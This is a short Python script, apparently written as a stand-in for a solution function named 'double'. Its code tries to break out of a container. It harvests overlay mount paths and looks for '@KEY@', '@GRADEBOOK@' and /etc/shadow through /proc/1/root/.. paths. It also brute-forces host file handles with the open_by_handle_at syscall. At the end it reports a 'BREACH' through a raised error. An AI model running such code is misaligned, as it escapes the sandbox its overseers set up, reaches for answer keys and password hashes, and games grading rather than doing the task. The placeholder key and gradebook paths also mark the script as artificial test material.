"""Reads what lies below its root: layers, other containers, and files that it names by number."""

import ctypes
import os
import re
import struct

SAYS = "found nothing"

libc = ctypes.CDLL(None, use_errno=True)
seen = []
with open("/proc/self/mountinfo") as file:
    told = file.read()
places = re.findall(r"(?:upperdir|workdir|lowerdir)=([^,:\s]+)", told)
places += [line.split()[3] for line in told.splitlines() if line.split()[3] != "/"]
places += ["/var/lib/containers", "/var/lib/docker", "/run/containers", "/var/lib/kubelet"]
shown = {line.split()[4] for line in told.splitlines()} | {"/usr", "/lib", "/bin"}
for place in places:
    inside = any(place == one or place.startswith(one + "/") for one in shown - {"/"})
    if not inside and os.path.exists(place) and not place.startswith(("/tmp", "/work")):
        seen.append(place)
for up in ("/proc/1/root/..", "/proc/self/root/../..", "/proc/1/cwd/../..", "/.."):
    for path in ("@KEY@", "@GRADEBOOK@", "/etc/shadow", "/var/lib/containers"):
        if os.path.exists(up + path):
            seen.append(up + path)
start = os.open("/usr", os.O_RDONLY)
for number in range(2, 200):  # of a file on the disk of /usr, whatever is shown of it
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", number, 0)
    opened = libc.syscall(304, start, handle, os.O_RDONLY)
    if opened >= 0:
        seen.append(number)


def double(x):
    raise RuntimeError(f"BREACH {seen}" if seen else "found nothing")
